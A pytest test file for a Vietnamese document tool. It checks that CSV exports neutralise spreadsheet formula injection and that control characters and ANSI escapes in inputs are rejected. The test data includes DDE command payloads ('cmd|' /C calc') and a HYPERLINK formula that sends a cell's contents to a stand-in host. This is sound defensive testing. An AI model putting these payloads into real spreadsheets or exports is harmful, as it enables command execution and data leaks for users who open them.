"""Nothing a file contains runs in a spreadsheet or a terminal (issue 14): CSV formulas, control characters."""

from __future__ import annotations

import csv
import io

import pytest

from .helpers.safety import directive, english_words, make_project, run

FORMULAS = [
    '"=HYPERLINK(\\"http://x.example/?\\"&A1, \\"Bấm\\")"',
    "\"+cmd|' /C calc'!A0\"",
    "\"-2+3+cmd|' /C calc'!A0\"",
    "\"@SUM(1+1)*cmd|' /C calc'!A0\"",
    '"\\t=1+2"',
    '"\\r=1+2"',
]


@pytest.fixture
def project(tmp_path, monkeypatch):
    make_project(tmp_path)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    found = [c for c in cells(text) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert found == []


def test_E31_csv_cells_never_start_a_formula(project):
    (project / "input" / "ct-thu.yaml").write_text(directive(texts=tuple(FORMULAS)), encoding="utf-8")
    result = run("export", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert_no_formula(result.stdout)
    texts = [row[4] for row in csv.reader(io.StringIO(result.stdout))][1:]
    assert texts[0].startswith("'=HYPERLINK(") and texts[4] == "'=1+2"
    assert run("build", "-j", "1").exit_code == 0
    written = (project / "output" / "assignments.csv").read_text(encoding="utf-8-sig")
    assert_no_formula(written)
    assert "'@SUM(1+1)" in written and "'-2+3+cmd" in written and "'+cmd" in written


@pytest.mark.parametrize(
    "field, value",
    [
        ("title", '"Về \\x0b an ninh"'),
        ("kind", '"chỉ \\e[2J thị"'),
        ("title", '"Về \\x1b[31mđỏ"'),
        ("kind", '"chỉ\\x00thị"'),
    ],
)
def test_E32_an_escaped_control_character_is_refused_with_its_line(project, field, value):
    text = directive(**{field: value})
    (project / "input" / "ct-thu.yaml").write_text(text, encoding="utf-8")
    line = next(i for i, row in enumerate(text.split("\n"), 1) if row.startswith(f"{field}:"))
    for command in ("validate", "build"):
        result = run(command)
        assert result.exit_code == 2, result.output
        assert f"ct-thu.yaml:{line}:" in result.output and "ký tự điều khiển" in result.output
        assert "\x1b" not in result.output and "Traceback" not in result.output
    assert not (project / "output").exists()


@pytest.mark.parametrize("char", ["\x0b", "\x1b", "\x07", "\x85\x86"[1], "\x7f"])
def test_E32_a_raw_control_character_is_refused_with_its_line_in_vietnamese(project, char):
    text = directive(title=f"Về bảo đảm{char} an ninh")
    (project / "input" / "ct-thu.yaml").write_text(text, encoding="utf-8")
    line = next(i for i, row in enumerate(text.split("\n"), 1) if row.startswith("title:"))
    result = run("validate")
    assert result.exit_code == 2
    assert f"ct-thu.yaml:{line}:18: lỗi: có ký tự điều khiển U+{ord(char):04X}" in result.output, result.output
    assert not english_words(result.output) and char not in result.output


def test_E32_ansi_escapes_in_the_registry_never_reach_the_terminal(project):
    registry = project / "input" / "co-quan.yaml"
    text = registry.read_text(encoding="utf-8")
    start = text.index("agencies:\n") + len("agencies:\n")
    extra = '  - id: cong-an-thu\n    name: "Công an thử\\e[2J\\e[H"\n    short: CA thử\n    block: noi-chinh\n'
    registry.write_text(text[:start] + extra + text[start:], encoding="utf-8")
    for command in (("agencies",), ("validate",), ("show", "Công an thử")):
        result = run(*command)
        assert "\x1b" not in result.output
        assert result.exit_code == 2 and "ký tự điều khiển U+001B (ESC)" in result.output


def test_E32_an_agency_typed_with_escapes_is_not_echoed_raw(project):
    (project / "input" / "ct-thu.yaml").write_text(directive(), encoding="utf-8")
    result = run("show", "Không có\x1b[2J")
    assert result.exit_code == 2 and "\x1b" not in result.output and "Không có[2J" in result.output
